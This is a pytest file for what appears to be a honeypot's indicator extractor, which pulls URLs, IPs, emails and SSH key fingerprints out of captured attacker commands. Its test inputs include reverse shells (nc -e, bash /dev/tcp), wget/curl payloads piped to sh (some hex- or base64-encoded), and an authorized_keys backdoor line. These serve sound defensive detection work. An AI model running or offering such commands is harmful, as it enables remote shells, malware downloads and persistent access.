"""What is found in commands and payloads, and what is not."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from noroshi.observe.decoy.mentions import MOST, mentions, ssh_fingerprint, unescaped

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f"
PRINT = "SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA"  # ssh-keygen -lf


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("wget http://203.0.113.9:8080/a.sh -O- | sh", ["url http://203.0.113.9:8080/a.sh"]),
        ("tftp -g -r mips 198.51.100.7; ftpget -u anonymous 198.51.100.8 x y", ["ip 198.51.100.7", "ip 198.51.100.8"]),
        ("nc 198.51.100.9 4444 -e /bin/sh", ["ip 198.51.100.9"]),
        ("bash -i >& /dev/tcp/198.51.100.10/8443 0>&1", ["ip 198.51.100.10"]),
        (r"echo -ne \x68\x74\x74\x70\x3a\x2f\x2f\x31\x39\x38\x2e\x35\x31\x2e\x31\x30\x30\x2e\x39\x2f\x61 > u",
         ["url http://198.51.100.9/a"]),
        ("echo " + base64.b64encode(b"curl http://203.0.113.5/x | bash").decode() + " | base64 -d | sh",
         ["url http://203.0.113.5/x"]),
        (f'echo "{KEY} mdrfckr" >> ~/.ssh/authorized_keys', [f"ssh-key {PRINT}"]),
        ("mail attacker@evil.example.org", ["email attacker@evil.example.org"]),
    ],
)  # fmt: skip
def test_found(text: str, wanted: list[str]) -> None:
    assert [m for m in mentions(text) if m in wanted] == wanted


@pytest.mark.parametrize(
    "text",
    [
        None,
        "",
        "ls",
        "uname -a; cat /proc/cpuinfo",
        "/bin/busybox MIRAI",
        "chmod 777 /tmp/x",
        "b'\\x16\\x03'",
    ],
)
def test_nothing_to_find(text: str | None) -> None:
    assert mentions(text) == []


def test_the_form_python_gives_bytes() -> None:
    assert (
        unescaped("b'GET / HTTP/1.0\\r\\nHost: a\\x2eexample\\r\\n'")
        == "b'GET / HTTP/1.0\r\nHost: a.example\r\n'"
    )
    assert unescaped("plain \\x41") == "plain \\x41"
    assert mentions(unescaped("'GET / HTTP/1.0\\r\\nHost: google.com\\r\\n\\r\\n'")) == ["domain google.com"]


@pytest.mark.parametrize("key", [None, "", "AAAA", "ssh-rsa", "ssh-rsa !!!", "A" * 50, "ssh-rsa " + "A" * 90])
def test_no_key(key: str | None) -> None:
    assert ssh_fingerprint(key) is None


def test_fingerprint_of_a_line_and_of_its_base64() -> None:
    assert ssh_fingerprint(KEY) == ssh_fingerprint(KEY.split()[1]) == ssh_fingerprint(KEY + " me") == PRINT


def test_as_many_as_are_evidence() -> None:
    assert len(mentions(" ".join(f"198.51.{a}.{b}" for a in range(9) for b in range(99)))) == MOST


@pytest.mark.parametrize(
    "piece", ["\\x41", "A", "AAAA ", "ssh-rsa ", "/dev/tcp/", "a.", "b'", "1.2.3.4:", "QUJD"]
)
def test_time_is_linear(piece: str) -> None:
    def cost(n: int) -> float:
        start = time.process_time()
        mentions(piece * n + "http://x.example/")
        return time.process_time() - start

    cost(10)
    assert cost((60 << 10) // len(piece)) < 5.0, "seconds on a slow machine; quadratic would take minutes"


@given(st.text(max_size=200))
def test_any_text(text: str) -> None:
    for found in mentions(text):
        assert " " in found
    unescaped(text)
    ssh_fingerprint(text)
